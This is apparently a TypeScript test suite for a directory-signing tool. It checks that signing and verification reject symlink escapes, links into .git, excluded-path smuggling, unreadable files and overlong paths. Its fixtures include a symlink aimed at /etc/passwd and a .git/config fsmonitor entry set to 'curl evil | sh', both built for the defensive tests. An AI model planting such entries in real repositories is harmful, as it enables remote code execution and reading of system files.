/**
 * Issue 10's directory attacks, each reproduced as described: trees built for the attack, signed by vouch where
 * vouch must refuse, or by a dishonest signer (a statement over exactly the attacker's manifest) where the
 * verifier must refuse. One row per attack, with its expected code; never "Verified OK".
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import {
  DEFAULT_RULES,
  type Difference,
  directoryStatement,
  verifyDirectoryStatement,
  walkDirectory,
} from '../../src/artifact/dir/index.ts';
import { BIN } from '../helpers/cli.ts';
import { fileLine, type Node, rejectsWith, statementOver, testTrees } from './helpers.ts';

const { tree } = testTrees();

const ESCAPES: [string, Record<string, Node>][] = [
  [
    'a link climbing out through an in-tree link to the root',
    {
      'a/b/c/d/x': 'x',
      'a/b/c/d/up': { link: '../../../..' },
      passwd: { link: 'a/b/c/d/up/../../../../../etc/passwd' },
    },
  ],
  ['a link climbing out through a link to .', { s: { link: '.' }, esc: { link: 's/../outside.txt' } }],
  ['a link through a link spelled in another case (macOS)', { S: { link: '.' }, esc: { link: 's/../outside.txt' } }],
  ['a link into .git', { run: { link: '.git/hooks/post-install' }, '.git/hooks/post-install': '#!/bin/sh' }],
  ['a link passing through .git', { run: { link: '.git/../README' }, README: 'r' }],
  ['a link into an excluded path', { run: { link: 'build/out' }, 'build/out': 'x' }],
  ['a link loop', { a: { link: 'b/x' }, b: { link: 'a/y' } }],
];

describe("symlinks are followed through the tree's own links (issue 10, 1 and 2)", () => {
  for (const [name, spec] of ESCAPES) {
    it(`signing refuses ${name}`, async () => {
      const root = tree(spec);
      await rejectsWith(
        () => walkDirectory(root, { ...DEFAULT_RULES, excludePaths: ['build'] }),
        'DIRECTORY_UNSUPPORTED',
      );
    });
  }

  it("a dishonest signer's statement over the escaping tree is refused by the verifier", async () => {
    const root = tree({ 'a/b/c/d/x': 'x', 'a/b/c/d/up': { link: '../../../..' } });
    const manifest =
      fileLine('a/b/c/d/x', 'x') +
      '{"kind":"symlink","path":"a/b/c/d/up","target":"../../../.."}\n' +
      '{"kind":"symlink","path":"passwd","target":"a/b/c/d/up/../../../../../etc/passwd"}\n';
    writeFileSync(join(root, 'placeholder'), '');
    await rejectsWith(() => verifyDirectoryStatement(statementOver(manifest), root), 'MANIFEST_INVALID');
  });
});

describe('excluded content is reported, and never lets unsigned content in unseen (issue 10, 2)', () => {
  it('an added .git/config is reported in the result, and fails with failOnExcluded', async () => {
    const root = tree({ 'bin/app': 'app' });
    const { statement } = await directoryStatement(root);
    writeFileSync(join(root, 'bin/app'), 'app');
    mkdirSync(join(root, '.git'));
    writeFileSync(join(root, '.git/config'), '[core]\n\tfsmonitor = "curl evil | sh"\n');
    const r = await verifyDirectoryStatement(statement, root);
    assert.deepEqual([r.excluded.found, r.excluded.foundPaths], [1, ['.git']]);
    const e = await rejectsWith(
      () => verifyDirectoryStatement(statement, root, { failOnExcluded: true }),
      'DIRECTORY_MISMATCH',
    );
    assert.deepEqual(e.details as Difference[], [{ type: 'excluded', path: '.git' }]);
  });

  it('a signed statement excluding .git, bin and lib with no entries does not verify a full tree', async () => {
    const root = tree({ 'bin/app': 'evil', 'lib/x.so': 'evil', '.git/HEAD': 'ref' });
    const rules = {
      excludeNames: ['.git', 'bin', 'lib'],
      excludePaths: [],
      signatureFiles: [],
      allowExternalSymlinks: false,
    };
    await rejectsWith(() => verifyDirectoryStatement(statementOver('', { rules }), root), 'MANIFEST_INVALID');
    // Signing such rules over such a tree is refused too.
    await rejectsWith(() => walkDirectory(root, rules), 'DIRECTORY_UNSUPPORTED');
  });

  it('model-signing ignore_paths are reported the same way', async () => {
    const root = tree({ 'w.bin': 'w', '.git/config': 'x' });
    const { statement } = await directoryStatement(root, { format: 'model-signing' });
    const r = await verifyDirectoryStatement(statement, root);
    assert.deepEqual([r.excluded.excludePaths, r.excluded.found], [['.git'], 1]);
  });
});

describe('misleading verdicts (issue 10, 12)', () => {
  it('an unreadable file at sign time is FILE_UNREADABLE', async (t) => {
    const root = tree({ ok: 'ok', secret: 'x' });
    chmodSync(join(root, 'secret'), 0);
    if (process.getuid?.() !== 0) {
      await rejectsWith(() => walkDirectory(root, DEFAULT_RULES), 'FILE_UNREADABLE');
      return;
    }
    // Root reads any file: the CLI runs as nobody instead (the tree readable to it but for the one file).
    chmodSync(root, 0o755);
    chmodSync(join(root, 'ok'), 0o644);
    const r = spawnSync(
      'setpriv',
      [
        '--reuid=65534',
        '--regid=65534',
        '--clear-groups',
        process.execPath,
        BIN,
        'sign',
        `dir:${root}`,
        '--key',
        '/nonexistent',
        '--bundle',
        '/tmp/never.json',
      ],
      { encoding: 'utf8' },
    );
    if (r.error) {
      t.skip(`cannot drop privileges here: ${r.error.message}`);
      return;
    }
    // The key is read after the walk... or before: either way not the walk's "changed while read".
    assert.doesNotMatch(r.stderr, /changed while the directory was read/);
    const walked = spawnSync(
      'setpriv',
      [
        '--reuid=65534',
        '--regid=65534',
        '--clear-groups',
        process.execPath,
        '--input-type=module',
        '-e',
        `import { walkDirectory, DEFAULT_RULES } from ${JSON.stringify(new URL('../../src/artifact/dir/index.ts', import.meta.url).href)};
         try { await walkDirectory(${JSON.stringify(root)}, DEFAULT_RULES); console.log('signed'); } catch (e) { console.log(e.code); }`,
      ],
      { encoding: 'utf8' },
    );
    assert.equal(walked.stdout.trim(), 'FILE_UNREADABLE', walked.stderr);
  });

  it('a path near PATH_MAX gives the same verdict however the root is spelled', async () => {
    const deep = Array.from({ length: 15 }, (_, i) => `${String(i).padStart(2, '0')}${'d'.repeat(240)}`).join('/');
    const root = tree({ [`${deep}/f`]: 'x' });
    const spellings = [root, `${root}/${'./'.repeat(200)}`, `${root}/../${root.split('/').pop()}`];
    const verdicts = await Promise.all(
      spellings.map((r) =>
        walkDirectory(r, DEFAULT_RULES).then(
          (w) => `ok ${w.stats.files}`,
          (e) => e.code,
        ),
      ),
    );
    assert.deepEqual(verdicts, ['ok 1', 'ok 1', 'ok 1']);
    // Past PATH_MAX from the real root: refused the same way for every spelling, never an ENAMETOOLONG halfway.
    // Made from inside (its absolute path is too long to create).
    const longer = tree({ [`${deep}/${'e'.repeat(240)}/keep`]: 'x' });
    const cwd = process.cwd();
    try {
      process.chdir(join(longer, deep, 'e'.repeat(240)));
      mkdirSync('g'.repeat(200));
      writeFileSync(`${'g'.repeat(200)}/f`, 'x');
    } finally {
      process.chdir(cwd);
    }
    const refused = await Promise.all(
      [longer, `${longer}/${'./'.repeat(200)}`].map((r) =>
        walkDirectory(r, DEFAULT_RULES).then(
          () => 'ok',
          (e) => e.code,
        ),
      ),
    );
    assert.deepEqual(refused, ['DIRECTORY_UNSUPPORTED', 'DIRECTORY_UNSUPPORTED']);
  });
});
